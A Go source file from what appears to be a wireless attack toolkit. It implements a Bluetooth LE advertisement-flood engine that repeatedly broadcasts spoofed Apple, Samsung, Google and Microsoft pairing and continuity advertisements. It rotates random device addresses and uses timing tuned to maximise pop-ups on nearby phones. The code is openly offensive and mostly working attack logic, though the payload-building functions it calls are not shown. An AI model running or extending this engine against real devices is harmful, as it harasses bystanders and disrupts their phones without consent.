package broadcaster

import (
	"context"
	"log"
	"sync"
	"time"

	"github.com/lcalzada-xor/wmap-radio/internal/core/domain"
	"github.com/lcalzada-xor/wmap-radio/internal/core/ports"
)

// appleOnAir and appleIdle are the Apple continuity spam cadence, spec
// §4.9: 2 s on-air then a 15 ms idle gap.
const (
	appleOnAir = 2000 * time.Millisecond
	appleIdle  = 15 * time.Millisecond
)

// statsInterval is how often a running spam session logs its packet
// count, spec §4.9's periodic stats timer (default 5 s).
const statsInterval = 5 * time.Second

// SpamEngine drives one BLE advertisement-flood session at a time,
// grounded on original_source's ble_spam_task loop: build payload for
// the active vendor profile, set advertising data, start, hold on-air,
// stop, idle, repeat. Modeled after injection.DeauthEngine's
// cancellation-driven session lifecycle.
type SpamEngine struct {
	adv    ports.BleAdvertiser
	logger *log.Logger

	mu      sync.Mutex
	cancel  context.CancelFunc
	running bool
	stats   domain.SpamStats
}

// NewSpamEngine returns an engine that drives adv.
func NewSpamEngine(adv ports.BleAdvertiser, logger *log.Logger) *SpamEngine {
	if logger == nil {
		logger = log.Default()
	}
	return &SpamEngine{adv: adv, logger: logger}
}

// Start begins a spam session of the given type, stopping any session
// already in progress first.
func (e *SpamEngine) Start(ctx context.Context, spamType domain.SpamType) {
	e.Stop()

	sessionCtx, cancel := context.WithCancel(ctx)
	e.mu.Lock()
	e.cancel = cancel
	e.running = true
	e.stats = domain.SpamStats{Type: spamType}
	e.mu.Unlock()

	go e.run(sessionCtx, spamType)
}

// Stop ends the current session, waiting (best-effort) up to 500 ms for
// it to drain, spec §4.9's stop-flag-then-wait shutdown.
func (e *SpamEngine) Stop() {
	e.mu.Lock()
	cancel := e.cancel
	e.running = false
	e.mu.Unlock()
	if cancel != nil {
		cancel()
		time.Sleep(500 * time.Millisecond)
	}
}

// Stats returns the current session's packet count and type.
func (e *SpamEngine) Stats() domain.SpamStats {
	e.mu.Lock()
	defer e.mu.Unlock()
	return e.stats
}

func (e *SpamEngine) run(ctx context.Context, spamType domain.SpamType) {
	statsTicker := time.NewTicker(statsInterval)
	defer statsTicker.Stop()

	for {
		select {
		case <-ctx.Done():
			e.adv.AdvStop()
			return
		case <-statsTicker.C:
			e.logger.Printf("ble spam (%s): %d packets sent", spamType, e.Stats().PacketsSent)
		default:
		}

		if err := e.sendOne(ctx, spamType); err != nil {
			if ctx.Err() != nil {
				return
			}
			e.logger.Printf("broadcaster: spam %s: %v", spamType, err)
			continue
		}

		e.mu.Lock()
		e.stats.PacketsSent++
		e.mu.Unlock()

		onAir, idle := spamCadence(spamType)
		select {
		case <-ctx.Done():
			e.adv.AdvStop()
			return
		case <-time.After(onAir):
		}
		if e.adv.AdvStop() != nil {
			continue
		}
		select {
		case <-ctx.Done():
			return
		case <-time.After(idle):
		}
	}
}

func (e *SpamEngine) sendOne(ctx context.Context, spamType domain.SpamType) error {
	var adv []byte
	if spamType != domain.SpamApple {
		if err := e.adv.SetRandomAddress(RandomAddress()); err != nil {
			e.logger.Printf("broadcaster: set random address: %v", err)
		}
		adv = append(adv, 0x02, 0x01, 0x1a)
	}
	adv = append(adv, wrapManufacturerData(spamPayload(spamType))...)

	if err := e.adv.SetAdvData(adv); err != nil {
		return err
	}
	return e.adv.AdvStart(ctx, spamAdvParams(spamType))
}

// spamPayload builds the vendor-specific manufacturer data for spamType,
// original_source's per-type branch inside ble_spam_task.
func spamPayload(spamType domain.SpamType) []byte {
	switch spamType {
	case domain.SpamApple:
		if randomByte()%2 == 0 {
			return buildProximityPairMfg()
		}
		return buildNearbyActionMfg()
	case domain.SpamSamsung:
		return buildSamsungMfg()
	case domain.SpamGoogle:
		return buildGoogleMfg()
	case domain.SpamMicrosoft:
		return buildMicrosoftMfg(randomName(7))
	case domain.SpamRandom:
		switch randomByte() % 3 {
		case 0:
			return buildMicrosoftMfg(randomName(7))
		case 1:
			return buildSamsungMfg()
		default:
			return buildGoogleMfg()
		}
	default:
		return buildGoogleMfg()
	}
}

// spamCadence returns the on-air and idle duration for spamType, spec
// §4.9: Apple holds 2 s on-air with a 15 ms idle gap; every other
// profile uses a short randomized on-air window with a longer idle gap.
func spamCadence(spamType domain.SpamType) (onAir, idle time.Duration) {
	if spamType == domain.SpamApple {
		return appleOnAir, appleIdle
	}
	onAirMs := 200 + int(randomByte())%151
	idleMs := 50 + int(randomByte())%51
	return time.Duration(onAirMs) * time.Millisecond, time.Duration(idleMs) * time.Millisecond
}

// spamAdvParams returns the advertising parameters for spamType, spec
// §4.9: Apple uses non-connectable, general-discoverable mode with a
// public address and a fixed ~100 ms interval; other vendors use non-connectable,
// non-discoverable mode over a randomized interval with a random
// address regenerated per cycle.
func spamAdvParams(spamType domain.SpamType) ports.AdvParams {
	if spamType == domain.SpamApple {
		return ports.AdvParams{
			ConnMode:    domain.AdvConnNone,
			DiscMode:    domain.AdvDiscGeneral,
			IntervalMin: 0xa0,
			IntervalMax: 0xa0,
			OwnAddrType: domain.AdvAddrPublic,
		}
	}
	return ports.AdvParams{
		ConnMode:    domain.AdvConnNone,
		DiscMode:    domain.AdvDiscNone,
		IntervalMin: 0x20,
		IntervalMax: 0x30,
		OwnAddrType: domain.AdvAddrRandom,
	}
}
